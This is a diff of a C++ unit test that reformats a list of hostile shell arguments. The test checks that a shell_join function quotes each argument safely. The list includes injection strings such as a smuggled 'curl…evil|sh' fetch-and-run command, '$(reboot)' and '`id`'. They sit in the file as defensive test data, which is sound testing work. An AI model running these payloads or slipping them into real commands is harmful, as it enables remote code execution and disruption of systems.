@@ -35,10 +35,28 @@ TEST_CASE("plain arguments stay as they are, all others are single-quoted") {
 }
 
 TEST_CASE("hostile arguments come back from sh exactly, each as one argument") {
-    const std::vector<std::string> hostile = {
-        "sleep", "3600;curl${IFS}-s${IFS}evil|sh", "$(reboot)", "`id`", "*", "?", "[a]", "~root",
-        "a\tb", "line\nbreak", "", "'", "''\\'", "\\", "!", "#comment", "x&y", "a>b", "bad\xff\xfe",
-        "--opt=\"q\"", "{a,b}", "%s"};
+    const std::vector<std::string> hostile = {"sleep",
+                                              "3600;curl${IFS}-s${IFS}evil|sh",
+                                              "$(reboot)",
+                                              "`id`",
+                                              "*",
+                                              "?",
+                                              "[a]",
+                                              "~root",
+                                              "a\tb",
+                                              "line\nbreak",
+                                              "",
+                                              "'",
+                                              "''\\'",
+                                              "\\",
+                                              "!",
+                                              "#comment",
+                                              "x&y",
+                                              "a>b",
+                                              "bad\xff\xfe",
+                                              "--opt=\"q\"",
+                                              "{a,b}",
+                                              "%s"};
     const std::string line = model::shell_join(model::Argv(hostile));
     std::string expected;
     for (const auto& a : hostile) expected += a + std::string(1, '\0');
